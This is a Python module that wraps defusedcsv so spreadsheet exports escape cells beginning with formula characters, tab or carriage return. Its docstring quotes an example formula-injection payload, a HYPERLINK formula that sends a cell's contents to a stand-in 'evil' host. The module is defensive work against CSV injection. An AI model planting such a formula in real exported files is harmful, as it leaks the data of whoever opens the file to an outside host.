"""CSV for spreadsheets: every export writes through ``writer`` so no cell runs as a formula.

Excel, LibreOffice and WPS treat a cell that starts with ``=``, ``+``, ``-``, ``@`` (and, in some
versions, a tab or a carriage return) as a formula: a counterparty named
``=HYPERLINK("http://evil/?"&A1, "发票")`` would run when the accountant opens the file. defusedcsv
puts an apostrophe in front of such cells (numbers such as ``-12.50`` stay as they are); tab and
carriage return are not in its list, so they get the same apostrophe here first.

The apostrophe is part of the cell: a program that reads the file back, our own import included,
sees ``'=HYPERLINK(…)`` where the entry said ``=HYPERLINK(…)``. Spreadsheets show the cell as text.
"""

from defusedcsv import csv as defused

_ALSO_ESCAPED = ("\t", "\r")


def _cell(value):
    if isinstance(value, str) and value.startswith(_ALSO_ESCAPED):
        return "'" + value
    return value


class _Writer:
    def __init__(self, out, **kwargs):
        self._writer = defused.writer(out, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(out, **kwargs) -> _Writer:
    return _Writer(out, **kwargs)
